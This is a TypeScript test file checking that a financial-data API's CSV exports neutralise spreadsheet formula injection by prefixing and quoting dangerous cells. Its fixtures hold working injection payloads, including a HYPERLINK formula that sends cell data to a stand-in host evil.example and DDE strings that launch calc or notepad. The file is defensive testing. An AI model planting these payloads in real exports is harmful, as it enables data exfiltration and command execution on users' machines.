// CSV formula injection (OWASP "CSV Injection"): a source whose company, sector, industry,
// portfolio and benchmark names start with = + - @ tab or CR goes through the real pipeline and a
// real server; every CSV endpoint must write those cells as text ('-prefixed and quoted), while
// numbers — negative ones and the metric strings such as "-3.43%" — stay exactly as before.
// Cells holding line breaks (CR, LF, CRLF) are quoted, so csv-parse, ending a record at any of the
// three, reads back the rows and cells written; a line inside a cell that starts a formula gets the
// same ' after the break.
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { toCsv } from "../../api/output/csv.ts";
import { type RunningServer, startServer } from "../../api/server.ts";
import { createAccessLogger, createLogger } from "../../jobs/logger.ts";
import { dispatchRun } from "../../jobs/queue/dispatch.ts";
import { Catalog } from "../../pipeline/store/catalog/catalog.ts";
import { SCOPES } from "../../pipeline/store/catalog/types.ts";
import { loadSnapshot } from "../../pipeline/store/read/load-snapshot.ts";
import type { Snapshot } from "../../pipeline/store/snapshot/model.ts";
import { TINY_TICKERS, weekdays, writeTinySource } from "../fixtures/tiny-source.ts";
import { MemoryCatalog } from "./fixture.ts";
import { parseCsv } from "./helpers.ts";

const KEY = "srk_csv_injection_test_key_0123456789";
const NAMES = {
  AAA: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  BBB: "+SUM(1,2)",
  CCC: "-2+3+cmd|' /C calc'!A0",
  DDD: "@SUM(1+1)*cmd|' /C calc'!A0",
};
const SECTOR = "=1+1";
const INDUSTRY = "@industry";
const PORTFOLIO = "=cmd|' /C notepad'!A0";
const BENCHMARKS = ["+Index", "-Equal Weight"];
const USER_PORTFOLIO = "@user portfolio";
const WATCHLIST = "\tTabbed watchlist";
const WATCHLIST_DESC = "\rCR description";
// The report's case: a CR, then a formula (unquoted, a reader saw a second row starting with =1+1).
const BROKEN_WATCHLIST = "x\r=1+1";
const BROKEN_DESC = 'two\nlines, a "quote"\r\n@SUM(1)';

/** Every line break ends a record unless quoted: CRLF, LF and a lone CR alike. */
const readCsv = (text: string): string[][] =>
  parse(text, { record_delimiter: ["\r\n", "\n", "\r"], relax_column_count: false });

/** A cell a spreadsheet would run as a formula: starts with = + - @ tab or CR and is not a number. */
const NUMBER = /^[-+]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?%?$/;
const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !NUMBER.test(cell) && cell !== "-";

let srv: RunningServer;
let snapshot: Snapshot;

beforeAll(async () => {
  const dates = weekdays("2024-01-01", 30);
  const source = writeTinySource((f) => {
    const prices = ["date,open,high,low,close,volume,Name"];
    // DDD falls every day, so its returns and metrics are negative (numbers that start with "-")
    dates.forEach((d, i) => {
      TINY_TICKERS.forEach((t, k) => {
        const close = t === "DDD" ? 40 - i * 0.5 : 10 * (k + 1) + i * 0.1 * (k + 1);
        prices.push(`${d},,,,${close.toFixed(2)},1000,${t}`);
      });
    });
    const q = (s: string) => `"${s.replaceAll('"', '""')}"`;
    const companies = [
      "ticker,name,sector,industry,shares_outstanding",
      ...TINY_TICKERS.map(
        (t, k) =>
          `${t},${q(NAMES[t as keyof typeof NAMES])},${k === 0 ? q(SECTOR) : "Tech"},` +
          `${k === 1 ? q(INDUSTRY) : "Software"},1000`,
      ),
    ];
    const pj = JSON.parse(f["portfolios.json"]);
    pj.portfolios[0].name = PORTFOLIO;
    pj.benchmarks[0].name = BENCHMARKS[0];
    pj.benchmarks[1].name = BENCHMARKS[1];
    return {
      "companies.csv": companies.join("\n"),
      "prices.csv": prices.join("\n"),
      "portfolios.json": JSON.stringify(pj),
    };
  });
  const dataDir = mkdtempSync(join(tmpdir(), "csv-inj-"));
  const pipelineCatalog = await Catalog.open(join(dataDir, "catalog.duckdb"));
  const silent = { info: () => undefined, warn: () => undefined };
  const run = await dispatchRun({ dataDir, sourceDir: source, catalog: pipelineCatalog, log: silent, redisUrl: null });
  snapshot = await loadSnapshot(dataDir, run.snapshotId);

  const catalog = new MemoryCatalog();
  catalog.addKey(KEY, "u1", SCOPES);
  catalog.watchlists.set("1", {
    id: "1",
    ownerId: "u1",
    name: WATCHLIST,
    description: WATCHLIST_DESC,
    private: true,
    createdAt: "2024-01-02T00:00:00.000Z",
    tickers: [...TINY_TICKERS],
  });
  catalog.watchlists.set("2", {
    id: "2",
    ownerId: "u1",
    name: BROKEN_WATCHLIST,
    description: BROKEN_DESC,
    private: true,
    createdAt: "2024-01-03T00:00:00.000Z",
    tickers: ["AAA"],
  });
  catalog.portfolios.set("201", {
    id: "201",
    ownerId: "u1",
    createdAt: "2024-01-02T00:00:00.000Z",
    name: USER_PORTFOLIO,
    description: "-description",
    rebalanceFrequency: 1,
    maxStocks: 2,
    maxStocksCriteria: "total_rating",
    maxStocksCriteriaOrder: "descending",
    maxSectorConcentration: null,
    ranges: {},
  });
  const sink = { write: () => true } as unknown as NodeJS.WritableStream;
  srv = await startServer({
    port: 0,
    host: "127.0.0.1",
    deps: {
      snapshot: () => snapshot,
      catalog,
      logger: createLogger("silent", sink as never),
      accessLogger: createAccessLogger("silent", sink as never),
    },
  });
}, 120_000);
afterAll(() => srv?.close());

const CSV_ENDPOINTS = [
  "stock_ratings",
  "stock_ratings/AAA",
  "stock_financials/AAA",
  "stock_metrics/DDD?benchmark=2",
  "stock_performance/DDD",
  "portfolios",
  "portfolios?private=false",
  "portfolios/101",
  "portfolios/201",
  "portfolio_holdings/101",
  "portfolio_trades/101?value=100000",
  "portfolio_metrics/101?benchmark=1",
  "portfolio_performance/101?benchmark=2",
  "stock_performance/DDD?type=boxplot&benchmark=1",
  "watchlists",
  "watchlists/1",
  "watchlist_items/1",
  "benchmarks",
];

async function get(path: string, format: "csv" | "json") {
  const sep = path.includes("?") ? "&" : "?";
  const r = await fetch(`${srv.url}/data/v1/${path}${sep}api_key=${KEY}&format=${format}`);
  expect(r.status, `${path} ${format}`).toBe(200);
  return r.text();
}

describe("CSV formula injection", () => {
  it("the source's names reach the snapshot unchanged (the test is not vacuous)", () => {
    expect(snapshot.companyByTicker.get("AAA")?.name).toBe(NAMES.AAA);
    expect(snapshot.companyByTicker.get("AAA")?.sector).toBe(SECTOR);
    expect(snapshot.companyByTicker.get("BBB")?.industry).toBe(INDUSTRY);
    expect(snapshot.benchmarks.map((b) => b.name)).toEqual(BENCHMARKS);
  });

  it("no CSV cell of any endpoint, header included, starts a formula", async () => {
    for (const path of CSV_ENDPOINTS) {
      const rows = parseCsv(await get(path, "csv"));
      // the tiny source has no fundamentals: financials answer the header row only
      expect(rows.length, path).toBeGreaterThan(path.startsWith("stock_financials") ? 0 : 1);
      for (const row of rows)
        for (const cell of row) expect(dangerous(cell), `${path}: ${JSON.stringify(cell)}`).toBe(false);
    }
  });

  it("text cells are prefixed with a single quote and quoted (OWASP)", async () => {
    const ratings = await get("stock_ratings?order_by=ticker", "csv");
    expect(ratings).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(ratings).toContain(`"'+SUM(1,2)"`);
    expect(ratings).toContain(`"'-2+3+cmd|' /C calc'!A0"`);
    expect(ratings).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
    expect(ratings).toContain(`"'=1+1"`);
    expect(ratings).toContain(`"'@industry"`);
    const rows = parseCsv(ratings);
    const name = rows[0].indexOf("stock.name");
    expect(rows.slice(1).map((r) => r[name])).toEqual(TINY_TICKERS.map((t) => `'${NAMES[t as keyof typeof NAMES]}`));
    expect(await get("watchlists/1", "csv")).toContain(`"'\tTabbed watchlist","'\rCR description"`);
    expect(await get("portfolios?private=false", "csv")).toContain(`"'=cmd|' /C notepad'!A0"`);
    expect(await get("benchmarks", "csv")).toContain(`"'-Equal Weight"`);
    // series rows are named by the benchmark too
    expect(await get("portfolio_performance/101?benchmark=2", "csv")).toContain(`\r\n"'-Equal Weight",2024-01-01,`);
    // the benchmark's name is a header cell of the metrics CSV
    const metricsHeader = (await get("portfolio_metrics/101?benchmark=1", "csv")).split("\r\n")[0];
    expect(metricsHeader).toBe(`metric,Portfolio,"'+Index"`);
  });

  it("JSON keeps the names as they are", async () => {
    const list = JSON.parse(await get("stock_ratings?order_by=ticker", "json"));
    expect(list.map((x: { stock: { name: string } }) => x.stock.name)).toEqual(
      TINY_TICKERS.map((t) => NAMES[t as keyof typeof NAMES]),
    );
  });

  it("numbers stay numbers: negative returns and metric strings are written unchanged", async () => {
    const metrics = JSON.parse(await get("stock_metrics/DDD", "json")) as Record<string, string>[];
    const cumulative = metrics.find((m) => m.metric === "Cumulative Return ")!.DDD;
    // DDD falls from 40.00 to 25.50 over the window: (25.5 / 40 − 1) × 100 = −36.25 %, by hand
    expect(cumulative).toBe("-36.25%");
    const csvRows = parseCsv(await get("stock_metrics/DDD", "csv"));
    expect(csvRows.find((r) => r[0] === "Cumulative Return ")).toEqual(["Cumulative Return ", "-36.25%"]);
    expect(await get("stock_metrics/DDD", "csv")).toContain("\r\nCumulative Return ,-36.25%\r\n");
    const series = await get("stock_performance/DDD?type=drawdown", "csv");
    // second day's drawdown: 39.50 / 40.00 − 1 = −0.0125, unquoted and unprefixed
    expect(series.split("\r\n")[2]).toMatch(/^DDD,2024-01-02,-0\.01(25|2499999\d*)$/);
  });
});

describe("CSV cells holding line breaks", () => {
  // [cell, what a reader gets back]: the same text, with ' before the cell and before each line
  // inside it that starts a formula (written out by hand from the rule in api/output/csv.ts).
  const CASES: [string, string][] = [
    ["x\r=1+1", "x\r'=1+1"],
    ["x\n=1+1", "x\n'=1+1"],
    ["x\r\n=1+1", "x\r\n'=1+1"],
    ["a\rb", "a\rb"],
    ["a\nb", "a\nb"],
    ["a\r\nb", "a\r\nb"],
    ['say "hi",\nthen, "bye"', 'say "hi",\nthen, "bye"'],
    ["total\n+SUM(A1:A9)\r\n-cmd|' /C calc'!A0\r@x\n\tTab", "total\n'+SUM(A1:A9)\r\n'-cmd|' /C calc'!A0\r'@x\n'\tTab"],
    ["x\n\r=1", "x\n'\r'=1"],
    ["blank\r\n\r\n=1", "blank\r\n\r\n'=1"],
    ["=1\n=2", "'=1\n'=2"],
    ["-3.43%\n-3.43%", "'-3.43%\n-3.43%"],
    ["\uFF1D1\r\n\uFF201", "'\uFF1D1\r\n'\uFF201"],
    ["\n", "\n"],
    // a cell starting with CR is a formula start whatever follows (as "\rCR description" above)
    ["\r\n", "'\r\n"],
  ];

  it("are quoted: csv-parse reads back as many rows and the same cells, a formula line prefixed", () => {
    const rows = CASES.map(([cell], i) => ({ i, cell, after: `after ${i}` }));
    const text = toCsv(rows, ["i", "cell", "after"]);
    const back = readCsv(text);
    expect(back.length).toBe(CASES.length + 1);
    expect(back[0]).toEqual(["i", "cell", "after"]);
    back.slice(1).forEach((r, i) => {
      expect(r, JSON.stringify(CASES[i][0])).toEqual([String(i), CASES[i][1], `after ${i}`]);
    });
  });

  it("in header cells too", () => {
    const text = toCsv([{ "a\rb": 1, "=x\n@y": 2 }], ["a\rb", "=x\n@y"]);
    expect(readCsv(text)).toEqual([
      ["a\rb", "'=x\n'@y"],
      ["1", "2"],
    ]);
  });

  it("through the server: the report's watchlist name is one cell of one row", async () => {
    for (const path of ["watchlists", "watchlists/2", "watchlist_items/2"]) {
      const text = await get(path, "csv");
      const json = JSON.parse(await get(path, "json"));
      const rows = readCsv(text);
      // one row per object of the JSON answer, plus the header
      expect(rows.length, path).toBe((Array.isArray(json) ? json.length : 1) + 1);
      expect(text, path).not.toMatch(/(^|[^"])x\r=1\+1/);
    }
    const [header, row] = readCsv(await get("watchlists/2", "csv"));
    expect(row[header.indexOf("name")]).toBe("x\r'=1+1");
    expect(row[header.indexOf("description")]).toBe('two\nlines, a "quote"\r\n\'@SUM(1)');
    expect(row[header.indexOf("id")]).toBe("2");
  });
});
